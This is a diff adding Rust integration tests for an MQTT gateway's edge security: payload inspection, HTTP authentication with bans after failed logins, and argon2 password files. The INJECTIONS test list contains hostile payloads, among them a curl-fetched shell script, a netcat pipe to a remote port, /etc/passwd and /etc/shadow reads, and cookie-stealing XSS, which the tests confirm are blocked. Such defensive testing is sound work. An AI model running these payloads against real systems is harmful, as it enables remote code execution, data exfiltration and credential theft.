@@ -773,6 +773,36 @@ fn config_errors_exit_2_and_name_the_key() {
             "[proxy_protocol]\nenabled = true\ntrusted = [\"10.0.0.0/8\", \"nope\"]\n",
             "proxy_protocol.trusted[1]",
         ),
+        (
+            "https auth",
+            "[auth]\nkind = \"http\"\nurl = \"https://auth.example/mqtt\"\n",
+            "auth.url",
+        ),
+        (
+            "auth slower than the connack timeout",
+            "[auth]\nkind = \"http\"\nurl = \"http://127.0.0.1:1/\"\ntimeout = \"5s\"\n",
+            "auth.timeout",
+        ),
+        (
+            "missing password file",
+            "[auth]\nkind = \"file\"\nfile = \"/nonexistent/aegis-users\"\n",
+            "auth.file",
+        ),
+        (
+            "bad inspection pattern",
+            "[[inspect.rules]]\nname = \"ok\"\npattern = \"x\"\n[[inspect.rules]]\nname = \"bad\"\npattern = \"(unclosed\"\n",
+            "inspect.rules[1]",
+        ),
+        (
+            "entropy out of range",
+            "[inspect]\nentropy_threshold = 9.0\n",
+            "inspect.entropy_threshold",
+        ),
+        (
+            "unknown ban key",
+            "[security]\nban_by = [\"ip\"]\n",
+            "security.ban_by",
+        ),
     ];
     for (what, config, key) in cases {
         let (status, stderr) = run_to_exit(&what.replace(' ', "-"), config);
@@ -1309,4 +1339,439 @@ async fn mosquitto_sub_and_pub_through_the_gateway_to_mosquitto() {
         matches!((at(v311), at(v5)), (Some(a), Some(b)) if a < b),
         "mosquitto_sub did not print both payloads, in order; stdout:\n{out}"
     );
+}
+
+// ---------------------------------------------------------------------------------
+// Edge security (issue 8): inspection, authentication, bans, through the gateway to a
+// real mosquitto
+// ---------------------------------------------------------------------------------
+
+/// A QoS 0 PUBLISH of `payload` to `topic` (3.1.1).
+fn publish_0(topic: &str, payload: &[u8]) -> Vec<u8> {
+    common::packet(0x30, &[common::string(topic), payload.to_vec()].concat())
+}
+
+/// A raw subscriber straight at the broker (so what it gets is what reached the
+/// broker): CONNECT, SUBSCRIBE `filter` at QoS 0.
+async fn watcher(broker: SocketAddr, filter: &str) -> TcpStream {
+    let mut s = TcpStream::connect(broker).await.unwrap();
+    s.write_all(&connect_311("watcher")).await.unwrap();
+    assert_eq!(
+        timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap(),
+        (0x20, vec![0x00, 0x00])
+    );
+    let subscribe = [&[0x00, 0x01][..], &common::string(filter), &[0x00]].concat();
+    s.write_all(&common::packet(0x82, &subscribe))
+        .await
+        .unwrap();
+    assert_eq!(
+        timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap(),
+        (0x90, vec![0x00, 0x01, 0x00])
+    );
+    s
+}
+
+/// Reads PUBLISH packets until one to `last`: every (topic, payload) before it, in order.
+async fn received_until(s: &mut TcpStream, last: &str) -> Vec<(String, Vec<u8>)> {
+    let mut got = Vec::new();
+    loop {
+        let (first, body) = timeout(WAIT, read_packet(s)).await.unwrap().unwrap();
+        assert_eq!(first & 0xF0, 0x30, "a PUBLISH");
+        let n = usize::from(u16::from_be_bytes([body[0], body[1]]));
+        let topic = String::from_utf8(body[2..2 + n].to_vec()).unwrap();
+        let payload = body[2 + n..].to_vec();
+        if topic == last {
+            return got;
+        }
+        got.push((topic, payload));
+    }
+}
+
+/// Pseudo-random bytes (xorshift64*), the same every run.
+fn random_bytes(n: usize) -> Vec<u8> {
+    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
+    (0..n)
+        .map(|_| {
+            x ^= x >> 12;
+            x ^= x << 25;
+            x ^= x >> 27;
+            x.wrapping_mul(0x2545_F491_4F6C_DD1D).to_be_bytes()[0]
+        })
+        .collect()
+}
+
+/// Base64 of `bytes` (standard alphabet, padded).
+fn base64(bytes: &[u8]) -> Vec<u8> {
+    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = Vec::new();
+    for c in bytes.chunks(3) {
+        let n = (u32::from(c[0]) << 16)
+            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
+            | u32::from(*c.get(2).unwrap_or(&0));
+        for i in 0..4 {
+            if i <= c.len() {
+                out.push(A[(n >> (18 - 6 * i)) as usize & 63]);
+            } else {
+                out.push(b'=');
+            }
+        }
+    }
+    out
+}
+
+/// The injection payloads of the issue, each with the default rule that must catch it.
+const INJECTIONS: [(&str, &str); 13] = [
+    ("name=x' OR '1'='1", "sql_injection"),
+    (
+        "1 UNION SELECT username, password FROM users",
+        "sql_injection",
+    ),
+    ("42; DROP TABLE devices", "sql_injection"),
+    ("fw; cat /etc/passwd", "command_injection"),
+    ("$(curl http://198.51.100.7/x.sh)", "command_injection"),
+    ("`id`", "command_injection"),
+    ("log | nc 198.51.100.7 4444", "command_injection"),
+    ("<script>alert(1)</script>", "xss"),
+    ("<img src=x onerror=alert(1)>", "xss"),
+    ("javascript:alert(document.cookie)", "xss"),
+    ("../../../etc/shadow", "path_traversal"),
+    ("..\\..\\windows\\win.ini", "path_traversal"),
+    ("GET /static/..%2f..%2fsecret", "path_traversal"),
+];
+
+/// Issue 8, payload inspection: the issue's injection payloads, a 200 kB payload over a
+/// 10 kB limit and 1 kB of random bytes over an entropy threshold of 7.5 never reach the
+/// broker; ordinary JSON telemetry (and plain text, and base64 of random bytes) does,
+/// byte-exact and in order. Each block is counted by rule and is a security event.
+#[tokio::test]
+async fn inspection_keeps_injections_big_and_random_payloads_from_the_broker() {
+    let broker = Mosquitto::start().await;
+    let config = r#"
+        [mqtt]
+        max_packet_size = 300000
+        [inspect]
+        default_rules = "block"
+        max_payload = 10240
+        entropy_threshold = 7.5
+        entropy_min_len = 512
+    "#;
+    let gw = Gateway::start(
+        "inspect",
+        config,
+        &["--upstream", &broker.addr().to_string()],
+    )
+    .await;
+    let mut sub = watcher(broker.addr(), "t/#").await;
+    let mut publ = mqtt_session("127.0.0.31", gw.mqtt, "publisher")
+        .await
+        .unwrap();
+
+    let random = random_bytes(1024);
+    let telemetry: Vec<Vec<u8>> = vec![
+        br#"{"device":"th-7","temperature":21.5,"humidity":40,"ts":1764115200}"#.to_vec(),
+        b"temperature OR humidity = 5".to_vec(),
+        br#"{"path":"sensors/room-1/temp","values":[20.5,20.75,21.0],"ok":true}"#.to_vec(),
+        base64(&random),
+        br#"{"msg":"select a mode; then press start","level":"info"}"#.to_vec(),
+    ];
+    let mut all = Vec::new();
+    for (i, (payload, _)) in INJECTIONS.iter().enumerate() {
+        all.push(publish_0("t/in", payload.as_bytes()));
+        if let Some(ok) = telemetry.get(i) {
+            all.push(publish_0("t/ok", ok));
+        }
+    }
+    all.push(publish_0("t/big", &vec![b'{'; 200_000]));
+    all.push(publish_0("t/random", &random));
+    all.push(publish_0("t/end", b"end"));
+    for p in &all {
+        publ.write_all(p).await.unwrap();
+    }
+
+    let got = received_until(&mut sub, "t/end").await;
+    let expected: Vec<(String, Vec<u8>)> = telemetry
+        .iter()
+        .map(|p| ("t/ok".to_string(), p.clone()))
+        .collect();
+    assert_eq!(
+        got, expected,
+        "only the telemetry reached the broker, exact and in order"
+    );
+
+    for rule in [
+        "sql_injection",
+        "command_injection",
+        "xss",
+        "path_traversal",
+    ] {
+        let n = INJECTIONS.iter().filter(|(_, r)| *r == rule).count();
+        gw.wait_metric(
+            &format!("aegis_mqtt_inspection_total{{rule=\"{rule}\",action=\"block\"}}"),
+            n as f64,
+        )
+        .await;
+        let exact = gw
+            .metric(&format!(
+                "aegis_mqtt_inspection_total{{rule=\"{rule}\",action=\"block\"}}"
+            ))
+            .await;
+        assert_eq!(exact, Some(n as f64), "{rule}");
+    }
+    for rule in ["max_payload", "entropy"] {
+        let series = format!("aegis_mqtt_inspection_total{{rule=\"{rule}\",action=\"block\"}}");
+        gw.wait_metric(&series, 1.0).await;
+        assert_eq!(gw.metric(&series).await, Some(1.0), "{rule}");
+    }
+    let dropped = "aegis_mqtt_dropped_total{packet=\"publish\",reason=\"inspection\"}";
+    assert_eq!(gw.metric(dropped).await, Some(15.0));
+
+    // Each block is an event with the rule, the client id and no payload.
+    let (_, events) = http_get(gw.metrics, "/events?limit=100").await.unwrap();
+    let events: serde_json::Value = serde_json::from_str(&events).unwrap();
+    let blocks: Vec<_> = events
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|e| e["kind"] == "block")
+        .collect();
+    assert_eq!(blocks.len(), 15, "{events}");
+    for (e, (payload, rule)) in blocks.iter().zip(INJECTIONS) {
+        assert_eq!(e["rule"], rule, "{e}");
+        assert_eq!(e["layer"], "inspect", "{e}");
+        assert_eq!(e["client_id"], "publisher", "{e}");
+        assert!(!e["details"].as_str().unwrap().contains(payload), "{e}");
+    }
+    assert_eq!(blocks[13]["rule"], "max_payload");
+    assert_eq!(blocks[14]["rule"], "entropy");
+
+    // The publisher's session goes on: a QoS 0 PUBLISH after the blocks arrives.
+    publ.write_all(&publish_0("t/ok", b"still here"))
+        .await
+        .unwrap();
+    publ.write_all(&publish_0("t/end", b"end")).await.unwrap();
+    assert_eq!(
+        received_until(&mut sub, "t/end").await,
+        [("t/ok".to_string(), b"still here".to_vec())]
+    );
+}
+
+/// A 3.1.1 CONNECT with clean session, a username and a password.
+fn connect_login(client_id: &str, username: &str, password: &str) -> Vec<u8> {
+    let body = [
+        &[0x00, 0x04, b'M', b'Q', b'T', b'T', 4, 0xC2, 0x00, 0x3C][..],
+        &common::string(client_id),
+        &common::string(username),
+        &common::string(password),
+    ]
+    .concat();
+    common::packet(0x10, &body)
+}
+
+/// A real HTTP auth service (hyper, on loopback): `200` for alice / secret, `401`
+/// otherwise. Returns its address and the count of calls.
+async fn auth_service() -> (SocketAddr, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    use std::sync::Arc;
+    use std::sync::atomic::{AtomicUsize, Ordering};
+
+    use http_body_util::{BodyExt, Full};
+
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    let calls = Arc::new(AtomicUsize::new(0));
+    let count = Arc::clone(&calls);
+    tokio::spawn(async move {
+        while let Ok((stream, _)) = listener.accept().await {
+            let count = Arc::clone(&count);
+            let svc =
+                hyper::service::service_fn(move |req: hyper::Request<hyper::body::Incoming>| {
+                    let count = Arc::clone(&count);
+                    async move {
+                        count.fetch_add(1, Ordering::SeqCst);
+                        let body = req.into_body().collect().await?.to_bytes();
+                        let creds: serde_json::Value =
+                            serde_json::from_slice(&body).unwrap_or_default();
+                        let ok = creds["username"] == "alice" && creds["password"] == "secret";
+                        let status = if ok { 200 } else { 401 };
+                        let res = hyper::Response::builder()
+                            .status(status)
+                            .body(Full::new(bytes::Bytes::new()))
+                            .unwrap();
+                        Ok::<_, hyper::Error>(res)
+                    }
+                });
+            tokio::spawn(
+                hyper::server::conn::http1::Builder::new()
+                    .serve_connection(hyper_util::rt::TokioIo::new(stream), svc),
+            );
+        }
+    });
+    (addr, calls)
+}
+
+/// Issue 8, authentication and bans: CONNECTs are checked by a real HTTP auth service;
+/// a burst of failed logins from one address bans it (its next connection is closed
+/// before any byte is read), while a good client from another address goes on, from
+/// the cache; all of it is in `/events` and `/bans`.
+#[tokio::test]
+async fn a_burst_of_failed_logins_through_an_http_auth_service_bans_the_address() {
+    use std::sync::atomic::Ordering;
+
+    let broker = Mosquitto::start().await;
+    let (auth, calls) = auth_service().await;
+    let config = format!(
+        r#"
+        [auth]
+        kind = "http"
+        url = "http://{auth}/mqtt/auth"
+        deny_ttl = "0s"
+        [security]
+        max_auth_failures = 3
+        ban_by = ["addr"]
+        "#
+    );
+    let gw = Gateway::start("auth", &config, &["--upstream", &broker.addr().to_string()]).await;
+    let mut sub = watcher(broker.addr(), "a/#").await;
+
+    // alice: allowed, her PUBLISH reaches the broker.
+    let mut alice = connect_from("127.0.0.41", gw.mqtt).await;
+    alice
+        .write_all(&connect_login("alice-1", "alice", "secret"))
+        .await
+        .unwrap();
+    assert_eq!(
+        timeout(WAIT, read_packet(&mut alice))
+            .await
+            .unwrap()
+            .unwrap(),
+        (0x20, vec![0x00, 0x00])
+    );
+    alice.write_all(&publish_0("a/x", b"hello")).await.unwrap();
+    alice.write_all(&publish_0("a/end", b"")).await.unwrap();
+    assert_eq!(
+        received_until(&mut sub, "a/end").await,
+        [("a/x".to_string(), b"hello".to_vec())]
+    );
+    assert_eq!(calls.load(Ordering::SeqCst), 1);
+
+    // mallory: four wrong passwords, each refused with CONNACK 0x05 by the service's
+    // 401 (denials are not cached here: four calls); the fourth is over 3 and bans.
+    for n in 1..=4 {
+        let mut s = connect_from("127.0.0.42", gw.mqtt).await;
+        s.write_all(&connect_login("m", "alice", &format!("guess{n}")))
+            .await
+            .unwrap();
+        assert_eq!(
+            timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap(),
+            (0x20, vec![0x00, 0x05]),
+            "attempt {n}"
+        );
+    }
+    assert_eq!(calls.load(Ordering::SeqCst), 5);
+    gw.wait_metric(
+        "aegis_security_bans_total{key=\"addr\",cause=\"auth_failures\"}",
+        1.0,
+    )
+    .await;
+    // Banned: even the right password gets nothing, and the service is not asked.
+    let mut s = connect_from("127.0.0.42", gw.mqtt).await;
+    let _ = s.write_all(&connect_login("m", "alice", "secret")).await;
+    assert!(closed_silently(&mut s).await);
+    assert_eq!(calls.load(Ordering::SeqCst), 5);
+
+    // alice again, from her own address: allowed from the cache (no call).
+    let mut again = connect_from("127.0.0.41", gw.mqtt).await;
+    again
+        .write_all(&connect_login("alice-1", "alice", "secret"))
+        .await
+        .unwrap();
+    assert_eq!(
+        timeout(WAIT, read_packet(&mut again))
+            .await
+            .unwrap()
+            .unwrap(),
+        (0x20, vec![0x00, 0x00])
+    );
+    assert_eq!(calls.load(Ordering::SeqCst), 5);
+    let hits = "aegis_mqtt_auth_total{result=\"allow\",cache=\"hit\"}";
+    gw.wait_metric(hits, 1.0).await;
+    let denies = "aegis_mqtt_auth_total{result=\"deny\",cache=\"miss\"}";
+    assert_eq!(gw.metric(denies).await, Some(4.0));
+    assert_eq!(
+        gw.metric("aegis_rejections_total{layer=\"mqtt\",reason=\"not_authorized\"}")
+            .await,
+        Some(4.0)
+    );
+
+    // The trail: four auth failures, the ban, the banned connection.
+    let (_, events) = http_get(gw.metrics, "/events?limit=100").await.unwrap();
+    let events: serde_json::Value = serde_json::from_str(&events).unwrap();
+    let kinds: Vec<(&str, &str)> = events
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| {
+            (
+                e["kind"].as_str().unwrap(),
+                e["rule"].as_str().unwrap_or(""),
+            )
+        })
+        .collect();
+    assert_eq!(
+        kinds,
+        [
+            ("auth_failure", "denied"),
+            ("auth_failure", "denied"),
+            ("auth_failure", "denied"),
+            ("auth_failure", "denied"),
+            ("ban", "auth_failures"),
+            ("rejection", "banned"),
+        ],
+        "{events}"
+    );
+    assert_eq!(events[0]["username"], "alice", "{events}");
+    let (_, bans) = http_get(gw.metrics, "/bans").await.unwrap();
+    let bans: serde_json::Value = serde_json::from_str(&bans).unwrap();
+    assert_eq!(bans[0]["value"], "127.0.0.42", "{bans}");
+    assert_eq!(bans.as_array().unwrap().len(), 1, "{bans}");
+}
+
+/// Issue 8, the static authenticator: a password file of argon2 hashes, read at
+/// start-up; the right password connects, a wrong one and an unknown user get 0x05.
+#[tokio::test]
+async fn a_password_file_of_argon2_hashes_authenticates() {
+    let dir = scratch("users");
+    let users = dir.join("users.txt");
+    let hash = aegis_mqtt::auth::StaticAuth::hash_password(b"s3cret");
+    std::fs::write(&users, format!("# test users\nalice:{hash}\n")).unwrap();
+    let config = format!("[auth]\nkind = \"file\"\nfile = \"{}\"\n", users.display());
+    let gw = Gateway::start("auth-file", &config, &[]).await;
+    for (user, password, code) in [
+        ("alice", "s3cret", 0x00),
+        ("alice", "wrong", 0x05),
+        ("bob", "s3cret", 0x05),
+    ] {
+        let mut s = connect_from("127.0.0.51", gw.mqtt).await;
+        s.write_all(&connect_login("c", user, password))
+            .await
+            .unwrap();
+        assert_eq!(
+            timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap(),
+            (0x20, vec![0x00, code]),
+            "{user} / {password}"
+        );
+    }
+    let _ = std::fs::remove_dir_all(&dir);
+
+    // Plain text in the file is refused at start-up, naming the key.
+    let dir = scratch("users-plain");
+    let users = dir.join("users.txt");
+    std::fs::write(&users, "alice:s3cret\n").unwrap();
+    let (status, stderr) = run_to_exit(
+        "auth-plain",
+        &format!("[auth]\nkind = \"file\"\nfile = \"{}\"\n", users.display()),
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+    assert_eq!(status.code(), Some(2), "{stderr}");
+    assert!(stderr.contains("config error: auth.file"), "{stderr}");
+    assert!(stderr.contains("line 1"), "{stderr}");
 }
